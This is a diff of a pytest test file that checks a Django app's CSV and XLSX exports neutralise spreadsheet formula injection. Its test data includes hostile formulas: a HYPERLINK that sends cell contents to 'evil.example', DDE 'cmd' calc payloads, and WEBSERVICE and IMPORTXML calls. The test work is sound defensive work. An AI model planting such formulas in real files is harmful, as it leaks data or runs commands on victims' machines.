@@ -25,22 +25,29 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
 
 
-@pytest.fixture
-def hostile(builtin_plan: Any) -> Observation:
-    """An approved value of M1-1 whose source is a formula, and one with control characters."""
-    observations = list(
-        Observation.objects.filter(indicator__code="M1-1", status="approved").order_by(
-            "period_start"
-        )
+def _approved(code: str) -> list[Observation]:
+    return list(
+        Observation.objects.filter(indicator__code=code, status="approved").order_by("period_start")
     )
-    assert len(observations) >= 2
-    first, second = observations[:2]
+
+
+@pytest.fixture
+def formulas(builtin_plan: Any) -> Observation:
+    """An approved value of M1-1 whose source and note are formulas."""
+    first = _approved("M1-1")[0]
     first.source = {"ja": HOSTILE, "en": HOSTILE}
     first.note = {"ja": OTHERS[0], "en": OTHERS[2]}
     first.save(update_fields=["source", "note"])
+    return first
+
+
+@pytest.fixture
+def hostile(formulas: Observation) -> Observation:
+    """Also one whose source has control characters (stored before the door refused them)."""
+    second = _approved("M1-1")[1]
     second.source = {"ja": "統計\x01課\x1b", "en": "Statistics\x07 office"}
     second.save(update_fields=["source"])
-    return first
+    return formulas
 
 
 def formulas_in(xlsx: bytes) -> list[str]:
@@ -61,7 +68,7 @@ def all_texts(xlsx: bytes) -> list[Any]:
 
 
 def test_export_csv_neutralises_formulas_and_reimports_unchanged(
-    hostile: Any, coordinator: Any, tmp_path: Path
+    formulas: Any, coordinator: Any, tmp_path: Path
 ) -> None:
     out = tmp_path / "export.csv"
     call_command("export", "--format", "csv", "-o", str(out))
@@ -178,3 +185,32 @@ def test_every_neutralised_text_reads_back_as_it_was(
     [record] = list(read_records(io.BytesIO(buffer.getvalue().encode()), filename="x.csv"))
     assert record.source == {"": text.strip()}
     assert record.value == "-0"
+
+
+@pytest.mark.parametrize(
+    ("text", "kept"),
+    [
+        ("=SUM(C4:C9)", True),
+        ('=IF(OR(D5="",C5="",B5="",C5=B5),"",(D5-B5)/(C5-B5))', True),
+        (HOSTILE, False),
+        ("=cmd|' /C calc'!A0", False),
+        ("=Sheet2!A1", False),
+        ('=A1&"x"', False),
+        ("=WEBSERVICE(A1)", False),
+        ('=IMPORTXML("http://evil.example","//a")', False),
+        ("+SUM(A1)", False),
+    ],
+)
+def test_only_a_reports_own_arithmetic_stays_a_formula(text: str, kept: bool) -> None:
+    """The report XLSX keeps its achievement-rate and total formulas; nothing else."""
+    from openpyxl import Workbook
+
+    from citystrat.safecells import arithmetic_formula, xlsx_workbook
+
+    assert arithmetic_formula(text) is kept
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet["A1"] = text
+    xlsx_workbook(book, keep_arithmetic=True)
+    assert (sheet["A1"].data_type == "f") is kept
